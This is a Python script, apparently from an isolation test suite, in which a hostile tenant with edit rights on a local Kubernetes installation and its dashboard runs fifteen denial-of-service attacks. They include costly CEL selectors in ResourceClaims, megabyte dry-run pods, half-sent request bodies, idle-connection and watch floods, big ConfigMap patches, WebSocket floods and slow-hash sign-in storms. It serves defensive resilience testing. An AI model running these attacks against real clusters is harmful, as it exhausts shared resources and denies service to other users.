"""What a hostile tenant does: each attack runs in a process of its own until it is ended, or for `LONGEST` seconds.

    python attacks.py NAME < target.json       prints how it was answered, as a line of JSON, when SIGTERM ends it

The tenant has the role `edit` in the namespace `NAMESPACE` and an account for the dashboard, as `Target` says. Requests
go to the installation that the case `isolation` has started on this machine, and nowhere else.
"""

from __future__ import annotations

import http.client
import json
import os
import signal
import socket
import ssl
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, replace
from typing import Any
from urllib.parse import quote, urlencode, urlsplit

#: The attacker's.
NAMESPACE = "attacker"
#: Seconds after which an attack ends by itself.
LONGEST = 180.0
#: The attacker's own address.
ADDRESS = ("127.0.0.66", 0)
#: Connections that hold nothing, how many of them are opened a second, and watches of one identity.
IDLE, OPENED, WATCHES = 1_500, 500, 1_000
#: The class of `cases.cluster`.
CLASS = "gpu.example.com"
GROUP = "/apis/resource.k8s.io/v1"
MERGE = "application/merge-patch+json"
_NUMBERS = str(list(range(46)))


@dataclass(frozen=True, slots=True, kw_only=True)
class Target:
    """api, web: URLs. cookie: of the attacker's session on the dashboard. authority: the file of the API's CA."""

    api: str
    web: str
    token: str
    cookie: str
    authority: str


ANSWERS: Counter[str] = Counter()
_ENDED = threading.Event()


class AttackerClient:
    """One keep-alive connection to the API, or to the dashboard."""

    def __init__(self, target: Target, *, page: bool = False, timeout: float = 120.0) -> None:
        self._target, self._page, self._timeout = target, page, timeout
        self._connection: http.client.HTTPConnection | None = None
        #: the cookie of the last answer
        self.set_cookie = ""

    def ask(self, method: str, path: str, body: Any = None, *, media: str = "application/json") -> tuple[int, bytes]:
        """(status, body); status 0 where there was no answer."""
        content = body if isinstance(body, bytes) else json.dumps(body).encode() if body is not None else None
        own = {"Cookie": self._target.cookie} if self._page else {"Authorization": f"Bearer {self._target.token}"}
        headers = {**own, **({"Content-Type": media} if content else {})}
        try:
            self._connection = self._connection or self._connect()
            self._connection.request(method, path, content, headers)
            answer = self._connection.getresponse()
            status, text, pause = answer.status, answer.read(), answer.headers.get("Retry-After")
            self.set_cookie = answer.headers.get("Set-Cookie", "").partition(";")[0]
        except (OSError, http.client.HTTPException):
            self._connection = None
            status, text, pause = 0, b"", "1"
        ANSWERS[f"{method} {status}"] += 1
        if status in (0, 429, 503):
            time.sleep(min(float(pause or 1), 1.0))
        return status, text

    def _connect(self) -> http.client.HTTPConnection:
        place = urlsplit(self._target.web if self._page else self._target.api)
        host, port = place.hostname or "", place.port
        if self._page:
            return http.client.HTTPConnection(host, port, timeout=self._timeout, source_address=ADDRESS)
        trusted = ssl.create_default_context(cafile=self._target.authority)
        return http.client.HTTPSConnection(host, port, timeout=self._timeout, context=trusted, source_address=ADDRESS)


def objects(resource: str, group: str = "/api/v1") -> str:
    return f"{group}/namespaces/{NAMESPACE}/{resource}"


def costly(number: int) -> str:
    """True, within the cost limit, different for each number, and evaluated for every device."""
    loops = f"{_NUMBERS}.all(a, {_NUMBERS}.all(b, {_NUMBERS}.all(c, a + b + c >= -{number})))"
    return f"[device].all(d, d.driver != '') && {loops}"


def costly_claim(name: str, selectors: int, *, matches: bool = False) -> dict[str, Any]:
    """matches: whether devices pass all of its selectors; otherwise its pod waits forever."""
    texts = [costly(number) for number in range(selectors)] + ([] if matches else ["!device.driver.startsWith('gpu')"])
    requests = [
        {
            "name": f"r{first // 32}",
            "exactly": {
                "deviceClassName": CLASS,
                "selectors": [{"cel": {"expression": text}} for text in texts[first : first + 32]],
            },
        }
        for first in range(0, len(texts), 32)
    ]
    return {
        "apiVersion": "resource.k8s.io/v1",
        "kind": "ResourceClaim",
        "metadata": {"name": name},
        "spec": {"devices": {"requests": requests}},
    }


def pod_of(name: str, *claims: str) -> dict[str, Any]:
    named = [{"name": f"c{number}", "resourceClaimName": claim} for number, claim in enumerate(claims)]
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name},
        "spec": {
            "resourceClaims": named,
            "containers": [
                {"name": "c", "image": "x", "resources": {"claims": [{"name": one["name"]} for one in named]}}
            ],
        },
    }


def _waiting_pods(target: Target, *, pods: int, claims: int, selectors: int) -> None:
    client = AttackerClient(target)
    for pod in range(pods):
        names = [f"c-{pod}-{number}" for number in range(claims)]
        for name in names:
            while client.ask("POST", objects("resourceclaims", GROUP), costly_claim(name, selectors))[0] in (
                0,
                429,
                503,
            ):
                pass
        client.ask("POST", objects("pods"), pod_of(f"p-{pod}", *names))
    _ENDED.wait(LONGEST)


def _template(name: str, requests: list[dict[str, Any]], **devices: Any) -> dict[str, Any]:
    return {
        "apiVersion": "resource.k8s.io/v1",
        "kind": "ResourceClaimTemplate",
        "metadata": {"name": name},
        "spec": {"spec": {"devices": {"requests": requests, **devices}}},
    }


def _costly_request(name: str, selectors: int, first: int) -> dict[str, Any]:
    texts = [costly(number) for number in range(first, first + selectors)]
    return {"name": name, "deviceClassName": CLASS, "selectors": [{"cel": {"expression": one}} for one in texts]}


def _template_pods(target: Target, template: dict[str, Any]) -> None:
    """Pods whose claims are made by the controller, one after the other, as long as the attack lasts."""
    client = AttackerClient(target)
    client.ask("POST", objects("resourceclaimtemplates", GROUP), template)
    end, number = time.monotonic() + LONGEST, 0
    while time.monotonic() < end:
        number += 1
        pod = pod_of(f"t-{number}", "unused")
        pod["spec"]["resourceClaims"] = [{"name": "c0", "resourceClaimTemplateName": template["metadata"]["name"]}]
        client.ask("POST", objects("pods"), pod)
        time.sleep(0.05)


def _templates_of_20(target: Target) -> None:
    exactly = _costly_request("", 20, 0)
    del exactly["name"]
    _template_pods(target, _template("costly", [{"name": "r", "exactly": exactly}]))


def _templates_of_alternatives(target: Target) -> None:
    alternatives = [_costly_request(f"a{number}", 4, number * 4) for number in range(8)]
    requests = [{"name": f"r{number}", "firstAvailable": alternatives} for number in range(4)]
    match = [{"matchAttribute": "gpu.example.com/model"}]
    _template_pods(target, _template("alternatives", requests, constraints=match))


def _big_dry_runs(target: Target) -> None:
    """Pods of a megabyte, valid and invalid, which are never stored."""
    many = [{"name": f"V{number}", "value": "x" * 480} for number in range(2_000)]
    container = {"name": "c", "image": "x", "env": many}

    def send(sender: int) -> None:
        client, end = AttackerClient(target), time.monotonic() + LONGEST
        pod = pod_of(f"dry-{sender}")
        pod["spec"]["containers"] = [container, *([container] if sender % 2 else [])]
        body = json.dumps(pod).encode()  # once: the attacker's own work takes nothing from the server
        while time.monotonic() < end:
            client.ask("POST", f"{objects('pods')}?dryRun=All", body)

    _at_once(8, send)


def _half_sent_bodies(target: Target) -> None:
    """Each announces three megabytes, sends most of them, and goes on with a byte a second."""
    place = urlsplit(target.api)
    trusted = ssl.create_default_context(cafile=target.authority)

    def send(_sender: int) -> None:
        end = time.monotonic() + LONGEST
        head = (
            f"POST {objects('configmaps')} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {target.token}\r\n"
            "Content-Type: application/json\r\nContent-Length: 3000000\r\n\r\n"
        )
        while time.monotonic() < end:
            with suppress(OSError):
                to = (place.hostname or "", place.port or 443)
                plain = socket.create_connection(to, timeout=10, source_address=ADDRESS)
                with trusted.wrap_socket(plain, server_hostname=place.hostname) as one:
                    one.sendall(head.encode() + b" " * 2_900_000)
                    ANSWERS["half sent"] += 1
                    while time.monotonic() < end:
                        one.sendall(b" ")
                        time.sleep(1)
            ANSWERS["closed"] += 1
            time.sleep(0.2)

    _at_once(200, send)


def _watched_changes(target: Target) -> None:
    """As many watches as one identity may have, of objects that change as fast as the server lets them."""
    threading.Thread(target=_watches, args=(target,), daemon=True).start()
    _patches(target)


def _idle_connections(target: Target) -> None:
    """Opened again as they are closed."""
    place = urlsplit(target.api)
    held: list[socket.socket] = []
    end = time.monotonic() + LONGEST
    while time.monotonic() < end:
        while len(held) < IDLE and time.monotonic() < end:
            with suppress(OSError):
                to = (place.hostname or "", place.port or 443)
                held.append(socket.create_connection(to, timeout=1, source_address=ADDRESS))
                held[-1].setblocking(False)
                ANSWERS["opened"] += 1
            time.sleep(1 / OPENED)
        for one in list(held):
            with suppress(BlockingIOError):
                try:
                    alive = bool(one.recv(1))
                except BlockingIOError:
                    raise
                except OSError:
                    alive = False
                if not alive:
                    ANSWERS["closed"] += 1
                    held.remove(one)
                    one.close()
        time.sleep(0.05)


def _watches(target: Target) -> None:
    place = urlsplit(target.api)
    trusted = ssl.create_default_context(cafile=target.authority)
    held: list[socket.socket] = []
    head = f"GET {objects('configmaps')}?watch=true HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {target.token}\r\n\r\n"
    end = time.monotonic() + LONGEST
    while time.monotonic() < end and len(held) < WATCHES:
        try:
            to = (place.hostname or "", place.port or 443)
            plain = socket.create_connection(to, timeout=10, source_address=ADDRESS)
            one = trusted.wrap_socket(plain, server_hostname=place.hostname)
            one.sendall(head.encode())
            held.append(one)
            ANSWERS["opened"] += 1
        except OSError:
            ANSWERS["refused"] += 1
            time.sleep(0.05)
    _ENDED.wait(LONGEST)


def _patches(target: Target) -> None:
    """Each stores 600 KB for 40 bytes."""
    client = AttackerClient(target)
    big = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "big"}, "data": {"x": "x" * 600_000}}
    client.ask("POST", objects("configmaps"), big)
    end, number = time.monotonic() + LONGEST, 0
    while time.monotonic() < end:
        number += 1
        client.ask("PATCH", f"{objects('configmaps')}/big", {"metadata": {"labels": {"n": str(number)}}}, media=MERGE)


def _at_once(count: int, work: Callable[[int], None]) -> None:
    threads = [threading.Thread(target=work, args=(number,), daemon=True) for number in range(count)]
    for one in threads:
        one.start()
    _ENDED.wait(LONGEST)


def _big_claims(target: Target) -> None:
    """2.3 MB each, dry runs included; some senders do not wait for the answer."""
    texts = [f"{costly(number)} || '{'x' * 1_800}' == ''" for number in range(1_024)]

    def encoded(sender: int, number: int) -> bytes:
        """Each has expressions of its own, so that none is compiled already."""
        claim = costly_claim(f"big-{sender}-{number}", 0)
        claim["spec"]["devices"]["requests"] = [
            {
                "name": f"r{request}",
                "exactly": {
                    "deviceClassName": CLASS,
                    "selectors": [
                        {"cel": {"expression": f"{text} && {number} > {-sender}"}}
                        for text in texts[request * 32 : request * 32 + 32]
                    ],
                },
            }
            for request in range(32)
        ]
        return json.dumps(claim).encode()

    def send(sender: int) -> None:
        bodies = [encoded(sender, number) for number in range(2)]
        end, number = time.monotonic() + LONGEST, 0
        run = "?dryRun=All" if sender % 2 else ""
        while time.monotonic() < end:
            number += 1
            AttackerClient(target, timeout=1.0 if sender % 4 == 3 else 120.0).ask(
                "POST", objects("resourceclaims", GROUP) + run, bodies[number % 2]
            )

    _at_once(8, send)


def _workbench(target: Target) -> None:
    """Eight tabs, each with other expressions."""

    def look(tab: int) -> None:
        client, end, number = AttackerClient(target, page=True), time.monotonic() + LONGEST, 0
        while time.monotonic() < end:
            number += 1
            text = quote(costly(number * 8 + tab))
            client.ask("GET", f"/classes/c/{CLASS}?selector={text}")
            client.ask("GET", f"/devices?cel={text}")

    _at_once(8, look)


def _refused_sockets(target: Target) -> None:
    """Of a client without credentials: each is refused, and the next one opened."""
    place = urlsplit(target.web)

    def open_sockets(_sender: int) -> None:
        end = time.monotonic() + LONGEST
        head = (
            f"GET /live HTTP/1.1\r\nHost: {place.netloc}\r\nOrigin: {target.web}\r\nUpgrade: websocket\r\n"
            "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
        )
        while time.monotonic() < end:
            try:
                to = (place.hostname or "", place.port or 80)
                with socket.create_connection(to, timeout=10, source_address=ADDRESS) as one:
                    one.sendall(head.encode())
                    ANSWERS[f"socket {one.recv(4096)[9:12].decode()}"] += 1
            except OSError:
                ANSWERS["socket broken"] += 1
                time.sleep(0.1)

    _at_once(8, open_sockets)


def _sign_ins(target: Target) -> None:
    """Wrong passwords from one address, each for a new name: the server computes a slow hash for each."""

    def sign_in(sender: int) -> None:
        stranger, end, number = AttackerClient(replace(target, cookie=""), page=True), time.monotonic() + LONGEST, 0
        _, page = stranger.ask("GET", "/login")
        token = page.partition(b'name="csrfmiddlewaretoken" value="')[2].partition(b'"')[0].decode()
        client = AttackerClient(replace(target, cookie=stranger.set_cookie), page=True)
        while time.monotonic() < end:
            number += 1
            form = urlencode({"username": f"name-{sender}-{number}", "password": "wrong", "csrfmiddlewaretoken": token})
            client.ask("POST", "/login", form.encode(), media="application/x-www-form-urlencoded")

    _at_once(8, sign_in)


ATTACKS: dict[str, Callable[[Target], None]] = {
    "one pod of 128 costly selectors": lambda target: _waiting_pods(target, pods=1, claims=1, selectors=128),
    "pods of 4,096 costly selectors": lambda target: _waiting_pods(target, pods=2, claims=16, selectors=128),
    "100 pods of 128 costly selectors": lambda target: _waiting_pods(target, pods=100, claims=1, selectors=128),
    "pods of templates, 20 costly selectors": _templates_of_20,
    "pods of templates, costly alternatives": _templates_of_alternatives,
    f"{IDLE:,} idle connections": _idle_connections,
    f"{WATCHES:,} watches": _watches,
    "patches of a big ConfigMap": _patches,
    "claims of 2.3 MB": _big_claims,
    "dry runs of pods of a megabyte": _big_dry_runs,
    "half-sent bodies": _half_sent_bodies,
    "watches of objects that change": _watched_changes,
    "eight workbenches": _workbench,
    "refused WebSockets": _refused_sockets,
    "sign-ins with wrong passwords": _sign_ins,
}


def main() -> None:
    target = Target(**json.load(sys.stdin))

    def end(_signal: int, _frame: object) -> None:
        print(json.dumps(ANSWERS), flush=True)
        sys.exit(0)

    signal.signal(signal.SIGTERM, end)
    os.nice(10)  # what the attacker computes takes no time from the server: it would have a machine of its own
    ATTACKS[sys.argv[1]](target)
    print(json.dumps(ANSWERS), flush=True)


if __name__ == "__main__":
    main()
